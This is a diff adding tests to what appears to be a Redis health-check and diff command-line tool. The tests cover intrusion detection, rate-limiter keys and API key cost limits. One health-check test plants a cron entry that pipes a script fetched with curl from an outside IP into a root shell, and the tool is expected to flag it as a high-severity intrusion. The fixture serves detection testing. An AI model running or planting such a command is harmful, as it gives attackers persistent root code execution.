@@ -162,3 +162,48 @@ describe('refused', () => {
     }
   });
 });
+
+describe('limits, limiters and health', () => {
+  test('two health checks: what fails, what no longer does, and what could not be asked again', async () => {
+    const client = server.client();
+    const pings = ['doctor', '--pings', '0'];
+    const well = await write('well.json', ...pings);
+    await client.set('backup1', '*/2 * * * * root curl -fsSL http://203.0.113.1/a | sh');
+    const ill = await write('ill.json', ...pings);
+    await client.del('backup1');
+    const worse = await diffOf(well, ill);
+    expect(worse.findings).toMatchObject({ new: [{ code: 'intrusion', severity: 'high' }], cured: [] });
+    expect(worse.totals.find(({ id }) => id === 'fail')).toMatchObject({ change: 1 });
+    expect((await diffOf(ill, well)).findings).toMatchObject({ new: [], cured: [{ code: 'intrusion' }] });
+    const failed = await run('diff', well, ill, '--fail-on', 'new-findings');
+    expect(failed.code).toBe(3);
+    expect(failed.stdout).toContain('Difference of two health checks');
+  });
+
+  test('two looks at limiters: keys and who is full', async () => {
+    const client = server.client();
+    const look = ['limiters', '--profile', 'rate-limiter-flexible@diff', '--limit', 'rlflx=5/60s'];
+    await client.set('diff:ann', 1, 'EX', 60);
+    const one = await write('limiters-1.json', ...look);
+    await client.set('diff:bob', 9, 'EX', 60);
+    const other = await write('limiters-2.json', ...look);
+    const { tables, totals } = await diffOf(one, other);
+    expect(totals[0]).toMatchObject({ id: 'keys', before: 1, after: 2 });
+    expect(tables[0]!.rows[0]).toMatchObject({
+      state: 'grown',
+      figures: [{ before: 1, after: 2 }, {}, { before: 0, after: 1 }, {}],
+    });
+  });
+
+  test('two looks at limits: what is used, and what is allowed', async () => {
+    const client = server.client();
+    const one = await write('limits-1.json', 'limits', ...CLOCK, '--all');
+    for (const key of await client.keys('apikey:*'))
+      if ((await client.type(key)) === 'hash') await client.hset(key, { dailyCostLimit: '100' });
+    const other = await write('limits-2.json', 'limits', ...CLOCK, '--all');
+    const { tables, of } = await diffOf(one, other);
+    expect(of).toBe('limits');
+    const changed = tables.flatMap(({ id, rows }) => rows.map((row) => [id, Number(row.figures[1]!.after)]));
+    expect(changed).toEqual(expect.arrayContaining([['daily-cost', 100]]));
+  });
+});
